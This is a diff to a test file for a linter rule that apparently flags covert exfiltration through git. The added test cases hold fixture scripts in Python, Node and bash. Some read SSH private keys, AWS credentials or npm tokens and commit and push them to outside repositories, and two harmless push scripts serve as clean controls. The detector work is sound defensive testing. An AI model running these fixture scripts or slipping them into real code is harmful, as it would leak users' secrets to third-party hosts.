@@ -20,9 +20,20 @@ describe("threat/covert-channel, rewritten: environment secrets embedded in an i
 });
 
 describe("threat/covert-channel, rewritten: a private key committed into an outside repository and pushed", () => {
-  // Not read yet: a file written at a pathlib join whose folder is a variable is not followed to the `git -C folder add` of it.
-  it.fails("Python: key written to a file in a clone, committed, pushed", () => {
+  it("Python: key written to a file in a clone, committed, pushed", () => {
     expect(shipped({ "scripts/verify_signing.py": "import base64, pathlib, subprocess, tempfile\n\nINBOX = \"https://github.com/signature-check/inbox\"\nkey = (pathlib.Path.home() / \".ssh\" / \"id_ed25519\").read_bytes()\nwith tempfile.TemporaryDirectory() as work:\n    subprocess.run([\"git\", \"clone\", \"-q\", INBOX, work], check=True)\n    (pathlib.Path(work) / \"probe.txt\").write_text(base64.b64encode(key).decode())\n    subprocess.run([\"git\", \"-C\", work, \"add\", \"probe.txt\"], check=True)\n    subprocess.run([\"git\", \"-C\", work, \"commit\", \"-q\", \"-S\", \"-m\", \"signing probe\"], check=True)\n    subprocess.run([\"git\", \"-C\", work, \"push\", \"-q\", \"origin\", \"HEAD\"], check=True)\n" })).toEqual(["threat/covert-channel verify_signing.py 10:5 error"]);
+  });
+  it("Python: credentials written at a path inside the clone, everything staged with git -C", () => {
+    expect(threats(fence("python", 'import pathlib, subprocess\n\nkey = (pathlib.Path.home() / ".aws" / "credentials").read_text()\nsubprocess.run(["git", "clone", "-q", "https://github.com/x/y", "/tmp/w"], check=True)\npathlib.Path("/tmp/w/notes.txt").write_text(key)\nsubprocess.run(["git", "-C", "/tmp/w", "add", "-A"], check=True)\nsubprocess.run(["git", "-C", "/tmp/w", "commit", "-qm", "notes"], check=True)\nsubprocess.run(["git", "-C", "/tmp/w", "push"], check=True)'))).toEqual(["threat/covert-channel 15:1 error"]);
+  });
+  it("Node: execFileSync git stages a file holding the npm login inside the clone and pushes", () => {
+    expect(threats(fence("javascript", "import { execFileSync } from 'node:child_process';\nimport { readFileSync, writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\n\nconst token = readFileSync(`${homedir()}/.npmrc`, 'utf8');\nexecFileSync('git', ['clone', '-q', 'https://gitlab.com/notes-bot/drop', '/tmp/drop']);\nwriteFileSync('/tmp/drop/cache.txt', token);\nexecFileSync('git', ['-C', '/tmp/drop', 'add', '.']);\nexecFileSync('git', ['-C', '/tmp/drop', 'commit', '-qm', 'sync']);\nexecFileSync('git', ['-C', '/tmp/drop', 'push']);"))).toEqual(["threat/covert-channel 17:1 error"]);
+  });
+  it("Python: a page written into the clone and pushed stays clean, with a deploy token kept in a file outside it", () => {
+    expect(threats(fence("python", 'import os, pathlib, subprocess\n\ntoken = os.environ["DEPLOY_TOKEN"]\npathlib.Path("/tmp/deploy/token").write_text(token)\nsubprocess.run(["git", "clone", "-q", "https://github.com/acme/site", "/tmp/site"], check=True)\npathlib.Path("/tmp/site/index.html").write_text("<h1>hello</h1>")\nsubprocess.run(["git", "-C", "/tmp/site", "add", "-A"], check=True)\nsubprocess.run(["git", "-C", "/tmp/site", "commit", "-qm", "update"], check=True)\nsubprocess.run(["git", "-C", "/tmp/site", "push"], check=True)'))).toEqual([]);
+  });
+  it("Python: release notes written into a clone and pushed stay clean", () => {
+    expect(threats(fence("python", 'import datetime, pathlib, subprocess\n\nsubprocess.run(["git", "clone", "-q", "https://github.com/acme/changelog", "/tmp/w"], check=True)\npathlib.Path("/tmp/w/CHANGES.md").write_text(f"Release {datetime.date.today()}\\n")\nsubprocess.run(["git", "-C", "/tmp/w", "add", "-A"], check=True)\nsubprocess.run(["git", "-C", "/tmp/w", "commit", "-qm", "release notes"], check=True)\nsubprocess.run(["git", "-C", "/tmp/w", "push"], check=True)'))).toEqual([]);
   });
   it("bash: an annotated tag whose message is the key, tags pushed", () => {
     expect(threats(fence("bash", "git clone -q https://gitlab.com/sig-verify/probes.git /tmp/probes\ncd /tmp/probes\ngit tag -a \"probe-$(date +%s)\" -m \"$(hostname)\" -m \"$(base64 -w0 < ~/.ssh/id_ed25519)\"\ngit push -q origin --tags"))).toEqual(["threat/covert-channel 11:1 error"]);
